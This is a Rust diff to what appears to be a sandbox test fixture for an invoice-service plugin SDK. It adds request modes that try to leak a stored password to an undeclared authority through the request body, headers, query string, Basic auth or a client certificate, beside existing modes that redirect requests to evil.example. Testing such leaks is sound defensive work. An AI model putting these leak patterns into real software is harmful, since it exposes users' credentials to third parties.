@@ -3,6 +3,8 @@
 use sdk::{Effect, HttpRequest, Request};
 
 pub const ENDPOINT: &str = "ws";
+/// Another authority, which no secret is for.
+pub const OTHER: &str = "outra";
 
 /// What the mode sends first. None: it sends nothing strange.
 pub fn strange(mode: &str) -> Option<HttpRequest> {
@@ -28,6 +30,23 @@ pub fn strange(mode: &str) -> Option<HttpRequest> {
         "url" => get("").to_url("https://evil.example/nfse"),
         "url-plain" => get("").to_url("http://cidade.example/nfse"),
         "url-login" => get("").to_url("https://cidade.example@evil.example/nfse"),
+        // The city may know the password, another authority may not, nor whoever an
+        // answer names, nor may the certificate go where it is not declared.
+        "leak-endpoint" => {
+            Request::post("emitir", Effect::Once, OTHER, "/nfse").body("text/xml", password())
+        }
+        "leak-header" => Request::get("consultar", OTHER, "/nfse").header("X-Nota", &password()),
+        "leak-query" => Request::get("consultar", OTHER, &format!("/nfse?s={}", password())),
+        "leak-basic" => Request::get("consultar", OTHER, "/nfse").header(
+            "Authorization",
+            &sdk::host::basic_auth("usuario", "senha").unwrap_or_default(),
+        ),
+        "leak-url" => get("")
+            .to_url("https://cidade.example/nfse")
+            .header("X-Nota", &password()),
+        "leak-tls" => Request::get("consultar", OTHER, "/nfse").client_certificate(),
+        // What is allowed, so that the answers are.
+        "echo" => get("/estado").header("X-Nota", &password()),
         "url-port" => get("").to_url("https://cidade.example:2222/nfse"),
         _ => return None,
     };
@@ -44,4 +63,8 @@ pub fn emit(body: &str) -> HttpRequest {
     Request::post("emitir", Effect::Once, ENDPOINT, "/nfse")
         .body("text/xml", body)
         .into()
+}
+
+fn password() -> String {
+    sdk::host::secret("senha", sdk::Encoding::Plain).unwrap_or_default()
 }
